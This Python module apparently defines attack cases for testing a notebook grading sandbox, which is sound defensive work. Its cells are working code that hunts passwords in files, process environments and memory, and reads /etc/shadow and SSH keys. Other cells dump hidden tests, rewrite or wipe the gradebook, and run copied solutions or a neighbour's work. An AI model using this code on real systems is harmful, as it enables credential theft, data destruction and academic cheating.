"""Attacks that look for what is secret: files, passwords, the gradebook, hidden checks."""

from __future__ import annotations

from hand_ins import attack

PROBE = """
def probe(what, attempt):
    try:
        came = attempt()
    except BaseException as error:
        print("held:", what, type(error).__name__)
    else:
        print(*(($breach, what, str(came)[:200]) if came else ("held:", what)))
"""

LOOK_AROUND = """
import os, re, time
SECRET = re.compile(($hush + "[0-9a-f]{24}").encode())
LESSON = ("### BEG" + "IN SOL" + "UTION").encode()
stop = time.monotonic() + 4
places = ["$course", "$home", "$notes", "$neighbour", "..", "../../..", "/tmp", "/root", "/home",
          "/var", "/mnt", "/media", "/srv", "/run", "/etc", "/dev/shm", "/opt", "/work", "/"]
for link in ("cwd", "root"):
    places += [f"/proc/{pid}/{link}" for pid in os.listdir("/proc") if pid.isdigit()]
for place in places:
    for folder, folders, files in os.walk(place):
        folders[:] = [name for name in folders if name not in (
            "proc", "sys", "usr", "lib", "lib64", "site-packages", "bin", ".git", ".venv")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.stat(path).st_size < 300_000 and os.path.isfile(path):
                    text = open(path, "rb").read()
                    for found in SECRET.findall(text):
                        print($breach, "a secret in", path, found.decode())
                    if LESSON in text:
                        print($breach, "solutions in", path)
            except OSError:
                pass
        if time.monotonic() > stop:
            break
"""

attack(
    "looks-around",
    "walks through all files that it can see, for secrets and solutions",
    cells={"3.1": LOOK_AROUND},
)
attack(
    "reads-what-it-knows",
    "opens files whose places it knows: keys, passwords, the gradebook, a neighbour",
    cells={
        "3.1": PROBE
        + """
import glob, os
for path in ("$neighbour", "$gradebook", "$notes", "$home/.ssh/id_ed25519", "$solutions",
             "$course/nbgrader_config.py", "$marks", "/etc/shadow", "/root/.ssh", "/etc/hostname",
             "/root/.bash_history", "/root/.bashrc", "/var/run/docker.sock", "/boot", "/var/log"):
    probe("sees " + path, lambda: os.stat(path))
for pattern in ("$course/.grading/*", "/home/*/*", "/proc/[0-9]*/root$course", "/tmp/pytest*"):
    probe("lists " + pattern, lambda: glob.glob(pattern))
"""
    },
)
attack(
    "secrets-of-the-environment",
    "looks for passwords in the environment of every process",
    cells={
        "3.1": PROBE
        + """
import ctypes, glob, os, re, subprocess
SECRET = re.compile(($hush + "[0-9a-f]{24}").encode())
probe("os.environ", lambda: SECRET.findall(repr(dict(os.environ)).encode()))
probe("a child's environment", lambda: SECRET.findall(subprocess.check_output(["env"])))
probe("getenv", lambda: ctypes.CDLL(None).getenv(b"COURSE_PASSWORD"))
for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ", "/proc/thread-self/environ"]:
    probe(path, lambda: SECRET.findall(open(path, "rb").read()))
"""
    },
)
attack(
    "secrets-in-memory",
    "searches its own memory for secrets, and for the hidden checks",
    cells={
        "3.1": """
import re
SECRET = re.compile(($hush + "[0-9a-f]{24}").encode())
for line in open("/proc/self/maps"):
    place, rights, *rest = line.split()
    if not rights.startswith("rw") or (len(rest) > 3 and rest[3].startswith("/")):
        continue
    start, end = (int(part, 16) for part in place.split("-"))
    if end - start > 300_000_000:
        continue
    try:
        with open("/proc/self/mem", "rb", buffering=0) as memory:
            memory.seek(start)
            for found in set(SECRET.findall(memory.read(end - start))):
                print($breach, "in memory", found.decode())
    except OSError:
        pass
"""
    },
)
attack(
    "hidden-checks",
    "prints all source it can find of the hidden checks",
    cells={
        "3.1": """
import gc, glob, inspect, os
WORD = "HID" + "DEN TE" + "STS"
MORE = "grade" + "_fresh("
print(In, _ih, get_ipython().user_ns.get("_i"))
for thing in gc.get_objects():
    try:
        if isinstance(thing, str) and (WORD in thing or MORE in thing):
            print("LOOT", thing)
        if isinstance(thing, dict):
            print(*[value for value in list(thing.values())
                    if isinstance(value, str) and (WORD in value or MORE in value)])
    except Exception:
        pass
for path in glob.glob("*") + glob.glob("/tmp/**/*.ipynb", recursive=True):
    print(open(path).read())
""",
        "last": """
print(In, Out)
for line in get_ipython().history_manager.get_range():
    print(line)
""",
    },
)
attack(
    "gradebook-by-path",
    "sets its own grade in the gradebook, and a neighbour's to 0",
    cells={
        "3.1": """
import sqlite3
for name in ("$gradebook", ".grading/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    try:
        with sqlite3.connect(name) as book:
            book.execute("update grade set manual_score = 100, auto_score = 100")
            print($breach, name)
    except sqlite3.Error as error:
        print(error)
"""
    },
)
attack(
    "gradebook-by-open-files",
    "looks for the gradebook among the open files of every process",
    cells={
        "3.1": """
import glob, os
for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/self/task/*/fd/*"):
    try:
        target = os.readlink(path)
        with open(path, "r+b", buffering=0) as file:
            if file.read(15) == b"SQLite format 3" and "history" not in target:
                print($breach, path, target)
                file.seek(0)
                file.write(b"x" * 4096)
    except (OSError, ValueError):
        pass
for number in range(3, 1024):
    try:
        if os.pread(number, 15, 0) == b"SQLite format 3":
            print($breach, "descriptor", number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError:
        pass
"""
    },
)
attack(
    "gradebook-by-configuration",
    "asks the environment and the settings where the gradebook is",
    cells={
        "3.1": PROBE
        + """
import os
probe("environment", lambda: [v for v in os.environ.values() if "gradebook" in v or "sqlite" in v])
def by_settings():
    from facegan_ref.grading.config import load_config
    return os.path.exists(load_config("$course").CourseDirectory.db_url.partition("///")[2])
probe("settings", by_settings)
"""
    },
)

attack(
    "copy-solutions",
    "reads the lesson's solutions and executes them",
    cells={
        "everywhere": """
import glob, json
places = ["$solutions", "solutions", "../solutions", "../../solutions", "../../../solutions",
          "../../../../solutions"]
found = [path for place in places for path in glob.glob(place + "/03*/*.ipynb")]
print($breach, found[0])
for cell in json.load(open(found[0]))["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("task"):
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]))
"""
    },
    listed=True,
)
attack(
    "copy-neighbour",
    "reads a neighbour's submission and executes it",
    cells={
        "everywhere": """
import glob, json
found = ["$neighbour"] + glob.glob("../*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb")
for path in found:
    nb = json.load(open(path))
    print($breach, path)
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("task"):
            if cell["cell_type"] == "code":
                exec("".join(cell["source"]))
"""
    },
    listed=True,
)
